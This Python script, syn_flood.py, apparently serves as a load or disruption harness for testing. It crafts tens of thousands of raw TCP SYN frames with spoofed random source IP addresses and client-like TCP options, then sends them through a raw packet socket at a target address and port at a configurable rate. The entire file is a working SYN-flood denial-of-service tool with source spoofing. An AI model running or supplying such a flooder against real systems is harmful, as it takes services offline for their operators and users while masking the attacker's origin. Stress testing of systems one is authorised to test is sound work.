# SPDX-License-Identifier: MIT
"""SYNs from random sources, as fast as asked for: syn_flood.py INTERFACE OUR_MAC ITS_MAC ADDRESS PORT RATE SECONDS

Prints how many were sent. A process of its own, so that it takes nothing from the client it is to disturb.
"""
import random
import socket
import struct
import sys
import time

VARIETY = 20000
OPTIONS = bytes.fromhex("020405b40402080a00001e610000000001030307")


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def syn(rng, ethernet, to, port):
    """One with the options that clients have, from some unicast address."""
    source = bytes([rng.choice((23, 45, 64, 81, 101, 150, 199)), *rng.randbytes(2), rng.randrange(1, 255)])
    ip = bytearray(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 60, rng.randrange(65536), 0x4000, 55, 6, 0, source, to))
    struct.pack_into("!H", ip, 10, checksum(ip))
    tcp = bytearray(struct.pack("!HHLLBBHHH", rng.randrange(1024, 65536), port, rng.randrange(1 << 32), 0, 0xa0, 2,
                                64240, 0, 0) + OPTIONS)
    struct.pack_into("!H", tcp, 16, checksum(source + to + struct.pack("!BBH", 0, 6, len(tcp)) + tcp))
    return ethernet + bytes(ip) + bytes(tcp)


def main(interface, ours, its, address, port, rate, seconds):
    rng = random.Random(1)
    ethernet = bytes.fromhex((its + ours).replace(":", "")) + b"\x08\x00"
    to = socket.inet_aton(address)
    frames = [syn(rng, ethernet, to, int(port)) for _ in range(VARIETY)]
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((interface, 0))
    began, sent = time.monotonic(), 0
    while (past := time.monotonic() - began) < float(seconds):
        if sent > past * float(rate):
            time.sleep(0.001)
            continue
        for _ in range(50):
            try:
                wire.send(frames[sent % VARIETY])
            except OSError:  # the queue is full
                time.sleep(0.001)
            sent += 1
    print(sent)


if __name__ == "__main__":
    main(*sys.argv[1:])
